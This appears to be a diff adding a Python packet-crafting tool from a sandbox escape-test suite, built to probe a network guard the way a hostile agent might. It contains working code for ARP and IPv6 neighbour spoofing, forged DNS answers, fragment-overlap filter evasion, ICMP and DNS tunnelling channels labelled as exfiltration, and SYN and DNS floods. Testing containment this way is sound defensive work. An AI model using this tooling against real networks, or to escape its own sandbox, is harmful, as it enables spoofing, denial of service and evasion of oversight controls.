@@ -1,0 +1,669 @@
+#!/usr/bin/env python3
+# Packet crafter of the escape-attempt suite: builds the frames a hostile
+# agent would send (odd TCP flags, fragments, raw IP protocols, ICMP with
+# payloads, VLAN tags, ARP/ND spoofing, crafted DNS messages, floods) with
+# the standard library only, and sends them from inside a sandbox namespace
+# on AF_PACKET (layer 2, so nothing in the sandbox's own stack cleans them
+# up) or on ordinary sockets where the content is what is crafted (DNS).
+#
+#   craft.py tcp --dst A --dport P [--flags S] [--data TEXT] [--count N]
+#   craft.py proto --dst A --proto N [--data TEXT]
+#   craft.py frag --dst A --dport P --kind tiny|overlap|nonfirst|tiny6|nonfirst6
+#   craft.py icmp --dst A [--type 8] [--data TEXT]
+#   craft.py icmp-error --dst A --inner-src A --inner-sport P --inner-dport P
+#   craft.py vlan --dst A --dport P [--vid N] [--tpid 0x8100]
+#   craft.py ether --dst-mac M --ethertype T [--data TEXT]
+#   craft.py arp --sender-ip A [--sender-mac M] [--target-ip A] [--op 2]
+#   craft.py na --target A [--tlla M] [--dst ff02::1]
+#   craft.py udp --dst A --dport P [--data TEXT] [--src A] [--src-mac M]
+#   craft.py dns --server A --name N [--qtype 1] [--tcp] [--variant V] [--port 53]
+#   craft.py dns-answer --to A --dport P --id N --name N --addr A   (forged, from upstream)
+#   craft.py synflood --dst A --dport P --count N
+#   craft.py dnsflood --server A --count N [--names-from SUFFIX]
+# Every address given may be IPv4 or IPv6. Layer 2 sends go to the
+# gateway's MAC (--gw-mac or $ESC_GW_MAC) from eth0's own MAC unless told.
+import argparse
+import ipaddress
+import os
+import random
+import select
+import socket
+import struct
+import sys
+import time
+
+IFACE = "eth0"
+
+
+def csum(data):
+    if len(data) % 2:
+        data += b"\0"
+    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return (~s) & 0xFFFF
+
+
+def mac_bytes(m):
+    return bytes(int(x, 16) for x in m.split(":"))
+
+
+def own_mac():
+    with open("/sys/class/net/%s/address" % IFACE) as f:
+        return f.read().strip()
+
+
+def own_addr(family):
+    """The sandbox's own global address of the family (the source to use)."""
+    s = socket.socket(family, socket.SOCK_DGRAM)
+    try:
+        s.connect(("203.0.113.1", 9) if family == socket.AF_INET else ("2001:db8::1", 9))
+        return s.getsockname()[0]
+    finally:
+        s.close()
+
+
+def is6(a):
+    return ipaddress.ip_address(a).version == 6
+
+
+def ipv4(src, dst, proto, payload, ident=None, frag_off=0, mf=False, df=False, ttl=64):
+    ident = random.randrange(65536) if ident is None else ident
+    flags = (0x2000 if mf else 0) | (0x4000 if df else 0) | (frag_off // 8)
+    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), ident, flags, ttl, proto, 0,
+                    socket.inet_aton(src), socket.inet_aton(dst))
+    return h[:10] + struct.pack("!H", csum(h)) + h[12:] + payload
+
+
+def ipv6(src, dst, nh, payload, hlim=64):
+    return struct.pack("!IHBB16s16s", 6 << 28, len(payload), nh, hlim,
+                       socket.inet_pton(socket.AF_INET6, src),
+                       socket.inet_pton(socket.AF_INET6, dst)) + payload
+
+
+def l4sum(src, dst, proto, seg):
+    if is6(src):
+        ph = (socket.inet_pton(socket.AF_INET6, src) + socket.inet_pton(socket.AF_INET6, dst) +
+              struct.pack("!IxxxB", len(seg), proto))
+    else:
+        ph = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!xBH", proto, len(seg))
+    return csum(ph + seg)
+
+
+FLAGS = {"F": 0x01, "S": 0x02, "R": 0x04, "P": 0x08, "A": 0x10, "U": 0x20, "E": 0x40, "C": 0x80}
+
+
+def tcp(src, dst, sport, dport, flags, data=b"", seq=None, ack=0, options=b""):
+    seq = random.randrange(1 << 32) if seq is None else seq
+    fl = 0
+    for c in flags:
+        fl |= FLAGS[c]
+    off = (20 + len(options)) // 4
+    h = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, off << 4, fl, 65535, 0, 0) + options
+    seg = h + data
+    c = l4sum(src, dst, 6, seg)
+    return seg[:16] + struct.pack("!H", c) + seg[18:]
+
+
+def udp(src, dst, sport, dport, data):
+    seg = struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data
+    c = l4sum(src, dst, 17, seg) or 0xFFFF
+    return seg[:6] + struct.pack("!H", c) + seg[8:]
+
+
+def icmp4(typ, code, rest, data):
+    m = struct.pack("!BBH", typ, code, 0) + rest + data
+    return m[:2] + struct.pack("!H", csum(m)) + m[4:]
+
+
+def icmp6(src, dst, typ, code, body):
+    m = struct.pack("!BBH", typ, code, 0) + body
+    return m[:2] + struct.pack("!H", l4sum(src, dst, 58, m)) + m[4:]
+
+
+def ip_packet(src, dst, proto, seg):
+    return ipv6(src, dst, proto, seg) if is6(dst) else ipv4(src, dst, proto, seg)
+
+
+class L2:
+    def __init__(self, gw_mac, src_mac=None):
+        self.s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        self.s.bind((IFACE, 0))
+        self.gw = mac_bytes(gw_mac)
+        self.me = mac_bytes(src_mac or own_mac())
+
+    def send(self, ethertype, payload, dst=None, tags=()):
+        hdr = (dst or self.gw) + self.me
+        for tpid, vid in tags:
+            hdr += struct.pack("!HH", tpid, vid)
+        frame = hdr + struct.pack("!H", ethertype) + payload
+        if len(frame) < 60:
+            frame += b"\0" * (60 - len(frame))
+        self.s.send(frame)
+
+    def ip(self, pkt, tags=()):
+        self.send(0x86DD if (pkt[0] >> 4) == 6 else 0x0800, pkt, tags=tags)
+
+
+def gw_mac(a):
+    m = a.gw_mac or os.environ.get("ESC_GW_MAC")
+    if not m:
+        sys.exit("craft: --gw-mac or ESC_GW_MAC needed")
+    return m
+
+
+def src_for(a, dst):
+    return a.src or own_addr(socket.AF_INET6 if is6(dst) else socket.AF_INET)
+
+
+def cmd_tcp(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    opts = b""
+    if a.tfo:
+        # TCP Fast Open cookie request/cookie option (kind 34), padded
+        opts = b"\x22\x0a" + os.urandom(8) + b"\x01\x01"
+    for _ in range(a.count):
+        sport = a.sport or random.randrange(20000, 60000)
+        seg = tcp(src, a.dst, sport, a.dport, a.flags, a.data.encode(), options=opts)
+        l2.ip(ip_packet(src, a.dst, 6, seg))
+    print("sent %d tcp %s -> %s:%d flags %s" % (a.count, src, a.dst, a.dport, a.flags))
+
+
+def cmd_proto(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    data = a.data.encode()
+    if a.proto == 47:  # GRE carrying an IPv4 packet (a tunnel)
+        inner = ipv4("10.99.0.1", "203.0.113.12", 17, udp("10.99.0.1", "203.0.113.12", 9, 9, data))
+        body = struct.pack("!HH", 0, 0x0800) + inner
+    elif a.proto == 132:  # SCTP INIT
+        init = struct.pack("!BBHIIHHI", 1, 0, 20, random.randrange(1, 1 << 32), 65535, 1, 1,
+                           random.randrange(1 << 32))
+        body = struct.pack("!HHII", 5000, 22, 0, 0) + init
+    elif a.proto == 50:  # ESP: SPI, sequence, "encrypted" data
+        body = struct.pack("!II", 0x1000, 1) + data
+    else:
+        body = data
+    for _ in range(a.count):
+        l2.ip(ip_packet(src, a.dst, a.proto, body))
+    print("sent %d proto %d %s -> %s" % (a.count, a.proto, src, a.dst))
+
+
+def cmd_frag(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    sport = random.randrange(20000, 60000)
+    data = a.data.encode()
+    seg = tcp(src, a.dst, sport, a.dport, "S")
+    if a.kind in ("tiny6", "nonfirst6", "overlap6"):
+        ident = random.randrange(1 << 32)
+        seg = tcp(src, a.dst, sport, a.dport, "S", data)
+
+        def fh(off, m):
+            return struct.pack("!BBHI", 6, 0, (off // 8) << 3 | (1 if m else 0), ident)
+        if a.kind == "tiny6":
+            parts = [(0, seg[:8], True), (8, seg[8:], False)]
+        elif a.kind == "overlap6":
+            parts = [(0, seg[:16], True), (8, seg[8:], False)]
+        else:
+            parts = [(8, seg[8:], False)]
+        for off, chunk, more in parts:
+            l2.ip(ipv6(src, a.dst, 44, fh(off, more) + chunk))
+        print("sent ipv6 fragments (%s) %s -> [%s]:%d" % (a.kind, src, a.dst, a.dport))
+        return
+    ident = random.randrange(65536)
+    if a.kind == "tiny":
+        # first fragment: 8 bytes of TCP header (ports only, no flags)
+        parts = [(0, seg[:8], True), (8, seg[8:], False)]
+    elif a.kind == "overlap":
+        # a harmless first fragment (a SYN to port 9), then a second one that
+        # overlaps it and would rewrite the port and flags if overlap won
+        benign = tcp(src, a.dst, sport, 9, "S")
+        parts = [(0, benign[:16], True), (0, seg[:24] + data, False)]
+    elif a.kind == "nonfirst":
+        parts = [(8, seg[8:] + data, False)]
+    else:
+        sys.exit("craft: unknown fragment kind")
+    for off, chunk, more in parts:
+        l2.ip(ipv4(src, a.dst, 6, chunk, ident=ident, frag_off=off, mf=more))
+    print("sent ipv4 fragments (%s) %s -> %s:%d" % (a.kind, src, a.dst, a.dport))
+
+
+def cmd_icmp(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    data = a.data.encode()
+    for i in range(a.count):
+        if is6(a.dst):
+            m = icmp6(src, a.dst, a.type if a.type != 8 else 128, 0,
+                      struct.pack("!HH", 0x4242, i) + data)
+            l2.ip(ipv6(src, a.dst, 58, m))
+        else:
+            l2.ip(ipv4(src, a.dst, 1, icmp4(a.type, 0, struct.pack("!HH", 0x4242, i), data)))
+    print("sent %d icmp type %d %s -> %s (%d bytes data)" % (a.count, a.type, src, a.dst, len(data)))
+
+
+def cmd_icmp_error(a):
+    """An ICMP error (port unreachable) whose quoted packet is the reply
+    direction of a flow the guard allowed: conntrack calls it RELATED. It is
+    sent to another address, with data after the quote (a tunnel)."""
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    inner = ipv4(a.inner_src, src, 6, tcp(a.inner_src, src, a.inner_dport, a.inner_sport, "PA",
+                                          a.data.encode()))
+    l2.ip(ipv4(src, a.dst, 1, icmp4(3, 3, b"\0\0\0\0", inner)))
+    print("sent icmp error about %s:%d quoting a reply, to %s" % (a.inner_src, a.inner_dport, a.dst))
+
+
+def cmd_vlan(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    pkt = ip_packet(src, a.dst, 17, udp(src, a.dst, 40000, a.dport, a.data.encode()))
+    tags = [(int(a.tpid, 0), a.vid)]
+    if a.qinq:
+        tags = [(0x88A8, a.vid), (0x8100, a.vid + 1)]
+    for _ in range(a.count):
+        l2.ip(pkt, tags=tags)
+    print("sent %d tagged frames (%s vid %d) -> %s:%d" % (a.count, a.tpid, a.vid, a.dst, a.dport))
+
+
+def cmd_ether(a):
+    l2 = L2(a.gw_mac or os.environ.get("ESC_GW_MAC") or "ff:ff:ff:ff:ff:ff", a.src_mac)
+    for _ in range(a.count):
+        l2.send(int(a.ethertype, 0), a.data.encode(), dst=mac_bytes(a.dst_mac))
+    print("sent %d frames ethertype %s to %s" % (a.count, a.ethertype, a.dst_mac))
+
+
+def cmd_arp(a):
+    smac = a.sender_mac or own_mac()
+    l2 = L2("ff:ff:ff:ff:ff:ff", a.src_mac or smac)
+    tip = a.target_ip or a.sender_ip
+    tmac = "00:00:00:00:00:00" if a.op == 1 else "ff:ff:ff:ff:ff:ff"
+    body = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, a.op, mac_bytes(smac),
+                       socket.inet_aton(a.sender_ip), mac_bytes(tmac), socket.inet_aton(tip))
+    dst = mac_bytes(a.dst_mac) if a.dst_mac else None
+    for _ in range(a.count):
+        l2.send(0x0806, body, dst=dst or b"\xff" * 6)
+    print("sent %d arp op %d: %s is-at %s" % (a.count, a.op, a.sender_ip, smac))
+
+
+def cmd_na(a):
+    tlla = a.tlla or own_mac()
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = a.src or link_local(own_mac())
+    body = struct.pack("!I16s", 0x20000000 | (0x40000000 if a.solicited else 0),
+                       socket.inet_pton(socket.AF_INET6, a.target))
+    body += struct.pack("!BB6s", 2, 1, mac_bytes(tlla))
+    m = icmp6(src, a.dst, 136, 0, body)
+    dst_mac = None if a.dst != "ff02::1" else b"\x33\x33\x00\x00\x00\x01"
+    for _ in range(a.count):
+        l2.send(0x86DD, ipv6(src, a.dst, 58, m, hlim=255), dst=dst_mac)
+    print("sent %d neighbour adverts: %s is-at %s (from %s)" % (a.count, a.target, tlla, src))
+
+
+def link_local(mac):
+    b = bytearray(mac_bytes(mac))
+    b[0] ^= 2
+    return str(ipaddress.IPv6Address(b"\xfe\x80" + b"\0" * 6 + bytes(b[:3]) + b"\xff\xfe" + bytes(b[3:])))
+
+
+def cmd_udp(a):
+    l2 = L2(gw_mac(a), a.src_mac)
+    src = src_for(a, a.dst)
+    for _ in range(a.count):
+        pkt = ip_packet(src, a.dst, 17, udp(src, a.dst, a.sport or random.randrange(20000, 60000),
+                                            a.dport, a.data.encode()))
+        l2.ip(pkt)
+    print("sent %d udp %s -> %s:%d" % (a.count, src, a.dst, a.dport))
+
+
+# ---- DNS messages ----------------------------------------------------------------
+
+QT = {"A": 1, "NS": 2, "CNAME": 5, "NULL": 10, "PTR": 12, "MX": 15, "TXT": 16, "AAAA": 28,
+      "SRV": 33, "OPT": 41, "SVCB": 64, "HTTPS": 65, "AXFR": 252, "ANY": 255, "CAA": 257}
+
+
+def qname(name):
+    out = b""
+    for label in name.rstrip(".").split("."):
+        lb = label.encode()
+        out += bytes([len(lb)]) + lb
+    return out + b"\0"
+
+
+def opt_rr(options=b"", version=0, udp_size=1232, owner=b"\0"):
+    return owner + struct.pack("!HHBBHH", 41, udp_size, 0, version, 0, len(options)) + options
+
+
+def dns_query(a, ident):
+    qt = QT.get(a.qtype.upper()) if not a.qtype.isdigit() else int(a.qtype)
+    q = qname(a.name) + struct.pack("!HH", qt, 1)
+    v = a.variant
+    qd, an, ns, ar = 1, 0, 0, 0
+    body, extra = q, b""
+    flags = 0x0100
+    if v == "two-questions":
+        qd = 2
+        body = q + qname(a.name2 or "paste.evil.test") + struct.pack("!HH", 1, 1)
+    elif v == "zero-questions":
+        qd, body = 0, b""
+    elif v == "answer-in-query":
+        an = 1
+        extra = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.12")
+    elif v == "ecs":  # EDNS client subnet carrying 4 bytes of data
+        ar = 1
+        data = struct.pack("!HBB", 1, 24, 0) + b"\x41\x42\x43"
+        extra = opt_rr(struct.pack("!HH", 8, len(data)) + data)
+    elif v == "padding-data":  # EDNS padding that is not zeros: a channel
+        ar = 1
+        extra = opt_rr(struct.pack("!HH", 12, 16) + b"exfiltrated-data")
+    elif v == "edns1":
+        ar, extra = 1, opt_rr(version=1)
+    elif v == "two-opt":
+        ar, extra = 2, opt_rr() + opt_rr()
+    elif v == "opt-owner":
+        ar, extra = 1, opt_rr(owner=qname("x.evil.test"))
+    elif v == "unknown-option":
+        ar, extra = 1, opt_rr(struct.pack("!HH", 65001, 8) + b"tunneled")
+    elif v == "oversized":  # a legal-looking query padded past 512 bytes
+        ar, extra = 1, opt_rr(struct.pack("!HH", 12, 600) + b"\0" * 600)
+    elif v == "pointer-loop":  # the question's name is a pointer to itself
+        body = b"\xc0\x0c" + struct.pack("!HH", 1, 1)
+    elif v == "pointer-forward":  # a pointer past the end of the message
+        body = b"\xc0\xff" + struct.pack("!HH", 1, 1)
+    elif v == "label-dot":  # a dot inside a label
+        body = bytes([15]) + b"api.github.test" + b"\0" + struct.pack("!HH", qt, 1)
+    elif v == "class-chaos":
+        body = qname(a.name) + struct.pack("!HH", qt, 3)
+    elif v == "opcode-notify":
+        flags = 0x2000
+    elif v == "response":  # QR set: a sandbox sending an answer
+        flags = 0x8400
+        an = 1
+        extra = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 60, 4) + socket.inet_aton("203.0.113.12")
+    elif v == "trailing":  # bytes after the last record
+        extra = b"tunnel-bytes"
+    elif v != "plain":
+        sys.exit("craft: unknown dns variant " + v)
+    elif getattr(a, "edns", False):  # speak EDNS: refusals then carry their reason (EDE)
+        ar, extra = 1, opt_rr()
+    return struct.pack("!HHHHHH", ident, flags, qd, an, ns, ar) + body + extra
+
+
+def rcode_of(resp):
+    if len(resp) < 12:
+        return "short"
+    names = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
+    r = resp[3] & 0xF
+    return names.get(r, "RCODE%d" % r)
+
+
+def answer_addrs(resp):
+    """The A records of an answer (enough of a parser for the lab's answers)."""
+    try:
+        qd, an = struct.unpack("!HH", resp[4:8])
+        i = 12
+        for _ in range(qd):
+            while resp[i] and resp[i] < 0xC0:
+                i += resp[i] + 1
+            i += 2 if resp[i] >= 0xC0 else 1
+            i += 4
+        out = []
+        for _ in range(an):
+            while resp[i] and resp[i] < 0xC0:
+                i += resp[i] + 1
+            i += 2 if resp[i] >= 0xC0 else 1
+            typ, _, _, rdlen = struct.unpack("!HHIH", resp[i:i + 10])
+            i += 10
+            if typ == 1 and rdlen == 4:
+                out.append(socket.inet_ntoa(resp[i:i + 4]))
+            i += rdlen
+        return ",".join(out)
+    except (IndexError, struct.error):
+        return ""
+
+
+def cmd_dns_answer(a):
+    """A forged answer, as an off-path spoofer upstream would send it: from
+    the resolver's address and port 53 to a sandbox's address and port."""
+    l2 = L2(gw_mac(a), a.src_mac)
+    q = qname(a.name) + struct.pack("!HH", 1, 1)
+    rr = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 300, 4) + socket.inet_aton(a.addr)
+    msg = struct.pack("!HHHHHH", a.id, 0x8580, 1, 1, 0, 0) + q + rr
+    for _ in range(a.count):
+        l2.ip(ipv4(a.resolver, a.to, 17, udp(a.resolver, a.to, 53, a.dport, msg)))
+    print("sent %d forged answers %s -> %s to %s:%d id %d" % (a.count, a.name, a.addr, a.to,
+                                                               a.dport, a.id))
+
+
+def cmd_dns(a):
+    fam = socket.AF_INET6 if is6(a.server) else socket.AF_INET
+    ident = a.id if a.id is not None else random.randrange(65536)
+    msg = dns_query(a, ident)
+    if a.tcp:
+        s = socket.socket(fam, socket.SOCK_STREAM)
+        s.settimeout(a.timeout)
+        try:
+            s.connect((a.server, a.port))
+            if a.split:  # the length prefix and the message in two segments
+                s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+                s.send(struct.pack("!H", len(msg)))
+                time.sleep(0.2)
+                s.send(msg)
+            elif a.double:  # two messages in one segment
+                s.send(struct.pack("!H", len(msg)) + msg + struct.pack("!H", len(msg)) + msg)
+            else:
+                s.send(struct.pack("!H", len(msg)) + msg)
+            hdr = s.recv(2)
+            if len(hdr) < 2:
+                print("closed")
+                return
+            resp = s.recv(struct.unpack("!H", hdr)[0])
+            print(rcode_of(resp), ede_text(resp))
+        except (ConnectionResetError, ConnectionRefusedError) as e:
+            print("reset", type(e).__name__)
+        except (socket.timeout, OSError) as e:
+            print("timeout" if isinstance(e, socket.timeout) else "error " + type(e).__name__)
+        return
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    if a.sport:
+        s.bind(("", a.sport))
+    s.settimeout(a.timeout)
+    s.sendto(msg, (a.server, a.port))
+    try:
+        resp, _ = s.recvfrom(65535)
+        print(rcode_of(resp), ede_text(resp), answer_addrs(resp))
+    except socket.timeout:
+        print("timeout")
+    except OSError as e:
+        print("error", e.strerror)
+
+
+def ede_text(resp):
+    i = resp.find(b"portcullis: ")
+    if i < 0:
+        return ""
+    j = i
+    while j < len(resp) and 32 <= resp[j] < 127:
+        j += 1
+    return resp[i:j].decode()
+
+
+def cmd_synflood(a):
+    """As many SYNs as asked, from the sandbox's own address (spoofed ones
+    die at layer 2) with random ports, through a raw socket."""
+    fam6 = is6(a.dst)
+    src = src_for(a, a.dst)
+    s = socket.socket(socket.AF_INET6 if fam6 else socket.AF_INET, socket.SOCK_RAW,
+                      socket.IPPROTO_TCP)
+    for i in range(a.count):
+        s.sendto(tcp(src, a.dst, random.randrange(1024, 65535), a.dport, "S"), (a.dst, 0))
+    print("sent %d SYNs to %s:%d" % (a.count, a.dst, a.dport))
+
+
+def cmd_dnsflood(a):
+    """Queries as fast as one socket sends them, each for a new name (under
+    --suffix: thousands of names to learn), not waiting for answers; the
+    answers are counted at the end."""
+    fam = socket.AF_INET6 if is6(a.server) else socket.AF_INET
+    s = socket.socket(fam, socket.SOCK_DGRAM)
+    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4 << 20)
+    s.setblocking(False)
+    answered = refused = 0
+    tag = random.randrange(1 << 20)
+    for i in range(a.count):
+        name = "n%d-%d.%s" % (tag, i, a.suffix)
+        a.name = name
+        msg = dns_query(a, i & 0xFFFF)
+        while True:
+            try:
+                s.sendto(msg, (a.server, 53))
+                break
+            except BlockingIOError:
+                select.select([], [s], [], 0.1)
+        # read what is there without waiting
+        while True:
+            try:
+                resp, _ = s.recvfrom(4096)
+            except (BlockingIOError, ConnectionRefusedError):
+                break
+            answered += 1
+            refused += rcode_of(resp) == "REFUSED"
+        if a.pace and i % a.pace == 0:
+            time.sleep(0.001)
+    end = time.time() + 2
+    while time.time() < end:
+        r, _, _ = select.select([s], [], [], 0.2)
+        if not r:
+            continue
+        try:
+            resp, _ = s.recvfrom(4096)
+        except OSError:
+            continue
+        answered += 1
+        refused += rcode_of(resp) == "REFUSED"
+    print("sent %d queries, %d answers, %d refused" % (a.count, answered, refused))
+
+
+def main():
+    p = argparse.ArgumentParser()
+    p.add_argument("--gw-mac")
+    p.add_argument("--src-mac")
+    p.add_argument("--src")
+    sub = p.add_subparsers(dest="cmd", required=True)
+
+    t = sub.add_parser("tcp")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--sport", type=int, default=0)
+    t.add_argument("--flags", default="S")
+    t.add_argument("--data", default="")
+    t.add_argument("--tfo", action="store_true")
+    t.add_argument("--count", type=int, default=1)
+
+    t = sub.add_parser("proto")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--proto", type=int, required=True)
+    t.add_argument("--data", default="portcullis-escape-probe")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("frag")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--kind", required=True)
+    t.add_argument("--data", default="")
+
+    t = sub.add_parser("icmp")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--type", type=int, default=8)
+    t.add_argument("--data", default="")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("icmp-error")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--inner-src", required=True)
+    t.add_argument("--inner-sport", type=int, required=True)
+    t.add_argument("--inner-dport", type=int, required=True)
+    t.add_argument("--data", default="tunnel-in-icmp-error")
+
+    t = sub.add_parser("vlan")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--vid", type=int, default=5)
+    t.add_argument("--tpid", default="0x8100")
+    t.add_argument("--qinq", action="store_true")
+    t.add_argument("--data", default="vlan-probe")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("ether")
+    t.add_argument("--dst-mac", required=True)
+    t.add_argument("--ethertype", required=True)
+    t.add_argument("--data", default="raw-frame-probe")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("arp")
+    t.add_argument("--sender-ip", required=True)
+    t.add_argument("--sender-mac")
+    t.add_argument("--target-ip")
+    t.add_argument("--dst-mac")
+    t.add_argument("--op", type=int, default=2)
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("na")
+    t.add_argument("--target", required=True)
+    t.add_argument("--tlla")
+    t.add_argument("--dst", default="ff02::1")
+    t.add_argument("--solicited", action="store_true")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("udp")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--sport", type=int, default=0)
+    t.add_argument("--data", default="udp-probe")
+    t.add_argument("--count", type=int, default=3)
+
+    t = sub.add_parser("dns")
+    t.add_argument("--server", required=True)
+    t.add_argument("--name", default="api.github.test")
+    t.add_argument("--name2")
+    t.add_argument("--qtype", default="A")
+    t.add_argument("--variant", default="plain")
+    t.add_argument("--port", type=int, default=53)
+    t.add_argument("--tcp", action="store_true")
+    t.add_argument("--split", action="store_true")
+    t.add_argument("--double", action="store_true")
+    t.add_argument("--timeout", type=float, default=2)
+    t.add_argument("--sport", type=int, default=0)
+    t.add_argument("--id", type=int)
+    t.add_argument("--edns", action="store_true")
+
+    t = sub.add_parser("dns-answer")
+    t.add_argument("--to", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--id", type=int, required=True)
+    t.add_argument("--name", required=True)
+    t.add_argument("--addr", required=True)
+    t.add_argument("--resolver", default="198.51.100.53")
+    t.add_argument("--count", type=int, default=1)
+
+    t = sub.add_parser("synflood")
+    t.add_argument("--dst", required=True)
+    t.add_argument("--dport", type=int, required=True)
+    t.add_argument("--count", type=int, required=True)
+
+    t = sub.add_parser("dnsflood")
+    t.add_argument("--server", required=True)
+    t.add_argument("--count", type=int, required=True)
+    t.add_argument("--suffix", default="flood.test")
+    t.add_argument("--qtype", default="A")
+    t.add_argument("--variant", default="plain")
+    t.add_argument("--pace", type=int, default=0)
+
+    a = p.parse_args()
+    globals()["cmd_" + a.cmd.replace("-", "_")](a)
+
+
+if __name__ == "__main__":
+    main()
